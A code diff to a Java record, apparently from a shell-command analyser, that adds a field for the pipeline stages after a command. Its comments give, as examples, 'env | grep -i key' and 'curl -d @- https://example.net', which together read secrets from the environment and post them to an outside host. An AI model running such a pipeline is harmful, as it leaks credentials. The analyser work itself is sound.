@@ -19,6 +19,8 @@ import java.util.List;
  * @param acts behaviours recognised in it
  * @param fedBy the stages of its pipeline before it, as words: {@code env | grep -i key}; {@code
  *     ""} where nothing is piped into it
+ * @param feeds the stages after it: {@code curl -d @- https://example.net}; {@code ""} where its
+ *     output goes elsewhere
  */
 public record SimpleCommand(
     List<String> argv,
@@ -31,9 +33,10 @@ public record SimpleCommand(
     List<String> via,
     State state,
     List<Act> acts,
-    String fedBy) {
+    String fedBy,
+    String feeds) {
 
-  /** One that nothing is piped into. */
+  /** One outside of a pipeline. */
   public SimpleCommand(
       List<String> argv,
       List<String> assignments,
@@ -45,7 +48,7 @@ public record SimpleCommand(
       List<String> via,
       State state,
       List<Act> acts) {
-    this(argv, assignments, redirects, stdin, background, start, end, via, state, acts, "");
+    this(argv, assignments, redirects, stdin, background, start, end, via, state, acts, "", "");
   }
 
   /** The command's name without its folder, {@code ""} where there are only assignments. */
@@ -60,24 +63,68 @@ public record SimpleCommand(
   /** The same with other acts. */
   public SimpleCommand withActs(List<Act> newActs) {
     return new SimpleCommand(
-        argv, assignments, redirects, stdin, background, start, end, via, state, newActs, fedBy);
+        argv,
+        assignments,
+        redirects,
+        stdin,
+        background,
+        start,
+        end,
+        via,
+        state,
+        newActs,
+        fedBy,
+        feeds);
   }
 
   /** The same with other redirects. */
   public SimpleCommand withRedirects(List<String> newRedirects) {
     return new SimpleCommand(
-        argv, assignments, newRedirects, stdin, background, start, end, via, state, acts, fedBy);
+        argv,
+        assignments,
+        newRedirects,
+        stdin,
+        background,
+        start,
+        end,
+        via,
+        state,
+        acts,
+        fedBy,
+        feeds);
   }
 
   /** The same, come another way. */
   public SimpleCommand withVia(List<String> newVia) {
     return new SimpleCommand(
-        argv, assignments, redirects, stdin, background, start, end, newVia, state, acts, fedBy);
+        argv,
+        assignments,
+        redirects,
+        stdin,
+        background,
+        start,
+        end,
+        newVia,
+        state,
+        acts,
+        fedBy,
+        feeds);
   }
 
-  /** The same behind other stages of a pipeline. */
-  public SimpleCommand withFedBy(String stages) {
+  /** The same amid other stages of a pipeline. */
+  public SimpleCommand withPipe(String before, String after) {
     return new SimpleCommand(
-        argv, assignments, redirects, stdin, background, start, end, via, state, acts, stages);
+        argv,
+        assignments,
+        redirects,
+        stdin,
+        background,
+        start,
+        end,
+        via,
+        state,
+        acts,
+        before,
+        after);
   }
 }
